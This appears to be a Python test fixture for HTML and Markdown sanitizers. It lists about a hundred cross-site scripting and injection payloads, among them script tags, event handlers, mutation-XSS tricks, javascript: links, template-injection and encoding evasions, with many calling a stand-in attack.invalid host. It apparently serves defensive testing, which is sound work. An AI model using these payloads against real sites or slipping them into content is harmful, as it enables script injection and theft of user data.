"""A hundred texts that try to become more than text.

Each runs a script or asks for an address if it gets its way. RUN stands for a script that sets
`window.injected` to the attack's number, URL for an address of a host that does not exist.
"""

AT_ONCE = r"""
<script>RUN</script>
<ScRiPt >RUN</sCrIpT >
<script src=URL></script>
<svg><script href=URL></script></svg>
<script>Function`RUN```</script>
<script>fetch('URL')</script>
<script>navigator.sendBeacon('URL')</script>
<img src=x: onerror=RUN>
<img/src="x:"/onerror=RUN//
<IMG SRC=x: ONERROR='RUN'>
<img src=x: one&#114;ror=1 onerror=&#119;indow&period;injected&#x3d;1;RUN>
<img src='x:>' onerror	=	RUN>
<image src=x: onerror=RUN>
<img src=URL>
<img srcset="URL 1x, URL/b 2x">
<picture><source srcset=URL><img></picture>
<input type=image src=URL>
<input autofocus onfocus=RUN>
<details open ontoggle=RUN>
<svg/onload=RUN//
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><image xlink:href=URL></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg><svg onload=RUN>
<svg><style><img src=x: onerror=RUN></style></svg>
<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>
<svg></p><style><a id="</style><img src=x: onerror=RUN>">
<math><mtext></p><img src=x: onerror=RUN></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x: onerror=RUN></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;"></table></mtext></math><svg onload=RUN>
<noscript><p title="</noscript><img src=x: onerror=RUN>">
<select><template></select><svg onload=RUN></template></select><svg onload=RUN>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="data:text/html,<script>location='URL'</script>"></iframe>
<iframe src=URL></iframe>
<object data=URL></object>
<embed src=URL>
<audio src=URL></audio>
<video><source src=x: onerror=RUN></video>
<video poster=URL></video>
<link rel=stylesheet href=URL>
<link rel=preload as=image href=URL>
<meta http-equiv=refresh content="0;url=URL">
<base href="http://attack.invalid/"><img src=URL>
<form action=URL id=f></form><script>f.submit()</script>
<body onload=RUN>
<table background=URL><tr><td>x</table>
<style>@import 'URL';</style>
<style>*{background:url(URL)}</style>
<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=RUN>
<p style="background:url(URL)">
<p style="background:\75\72\6c(URL)">
"><script>RUN</script>
'><script>RUN</script>
" onerror="RUN" src="x:
'onerror='RUN'src='x:
` onerror=RUN src=x: `
--!><script>RUN</script><!--
</textarea><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</td></tr></table><script>RUN</script>
</ins></del></span></strong><svg onload=RUN>
javascript:/*--></title></style></textarea></script></xmp><svg/onload='/**/RUN'>
"""  # noqa: E501
CARELESS = [  # pages that put {} into themselves as it is
    "<p>{}</p>",
    "<table><tr><td>{}</td></tr></table>",
    "<title>{}</title>",
    "<style>{}</style>",
    "<script>'{}'</script>",
    "<!--{}-->",
    "<textarea>{}</textarea>",
    '<img alt="{}">',
    "<img alt='{}'>",
    "<img alt={}>",
]
# What waits for a click, an old browser, or Markdown, MathJax, a template engine or a terminal.
LATER = [
    '<a href="javascript:RUN">x</a>',
    '<a href="&#106;avascript&colon;RUN">x</a>',
    '<a href="java\tscript:RUN">x</a>',
    "<a href=URL ping=URL>x</a>",
    '<form id=f><button formaction="javascript:RUN">x</button></form>',
    '<math href="javascript:RUN">x</math>',
    "<b onpointerover=RUN>x</b>",
    '<p style="width:expression(RUN)">',
    "<!--[if IE]><script>RUN</script><![endif]-->",
    "]]><script>RUN</script><![CDATA[",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "URL">]>&y;',
    "[x](javascript:RUN)",
    "[x](<java\nscript:RUN>)",
    "[x]\n\n[x]: javascript:RUN",
    "![x](URL)",
    '![x](x: "t" onerror=RUN)',
    '![x"onerror="RUN](x:)',
    "```html\n<script>RUN</script>",
    "|x|\n|-|\n|<img src=x: onerror=RUN>|",
    r"$\href{javascript:RUN}{x}$",
    r"$$\require{html}\style{background:url(URL)}{\cssId{x}{y}}$$",
    r"\(\unicode{x3c}script>RUN\unicode{x3c}/script>\)",
    r"\begin{equation}\class{x\" onclick=\"RUN}{y}\end{equation}",
    "{{constructor.constructor('RUN')()}}",
    "${RUN}<%= RUN %>#{RUN}",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&amp;lt;img src=x: onerror=RUN&amp;gt;",
    "%3Cscript%3ERUN%3C/script%3E",
    r"\x3cscript\x3eRUN\u003c/script\u003e",
    "＜script＞RUN＜/script＞",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "À¼scriptÀ¾RUNÀ¼/scriptÀ¾",
    "<scr\0ipt>RUN</scr\0ipt><img src=x: \0onerror=RUN>",
    "\x1b]8;;URL\x07x\x1b]8;;\x07\x1b[31m<svg onload=RUN>\x1b[0m",
    "\u202e>tpircs/<\u2066<script>RUN</script>\u2069",
]


def armed(attack, number):
    """Return `attack` with its RUN and URL written out, so that what it does tells its `number`."""
    script = f"window.injected={number}"
    address = f"http://attack.invalid/{number}"
    return attack.replace("RUN", script).replace("URL", address)


TEMPLATES = [*AT_ONCE.strip().splitlines(), *LATER]
ATTACKS = [armed(attack, number) for number, attack in enumerate(TEMPLATES)]
FIRST_LATER = len(ATTACKS) - len(LATER)
